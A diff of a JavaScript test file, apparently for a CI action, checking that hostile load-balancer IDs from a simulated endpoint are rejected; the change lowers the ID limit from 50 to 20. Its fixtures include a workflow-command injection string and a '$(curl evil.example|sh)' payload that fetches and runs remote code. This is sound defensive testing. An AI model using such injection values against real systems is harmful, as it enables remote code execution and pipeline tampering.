@@ -69,13 +69,13 @@ describe('hostile endpoint (dist/index.js, as the runner runs it)', () => {
   it.each([
     ['a command', ['lb-aaaaaaaa', 'lb-x\n::set-output name=status::0']],
     ['shell', ['$(curl evil.example|sh)']],
-    ['too many', Array.from({ length: 51 }, (_, i) => `lb-${String(i).padStart(8, '0')}`)],
+    ['too many', Array.from({ length: 21 }, (_, i) => `lb-${String(i).padStart(8, '0')}`)],
   ])('LoadBalancerIds carrying %s make a malformed answer, never an output', (_name, ids) =>
     withSim(async (sim) => {
       sim.addTask('t', { finishAfterMs: 0, loadBalancerIds: ids });
       const r = await run(sim, { 'task-id': 't', 'max-retries': '1' });
       expect(r.code).toBe(1);
-      expect(errors(r.stdout)[0]).toMatch(/LoadBalancerIds|load balancers, more than 50/);
+      expect(errors(r.stdout)[0]).toMatch(/LoadBalancerIds|load balancers, more than 20/);
       expect(r.outputs['load-balancer-ids']).toBe('[]');
       expect(r.outputFile).not.toMatch(/\$\(|set-output/);
       expectOnlyOurCommands(r);
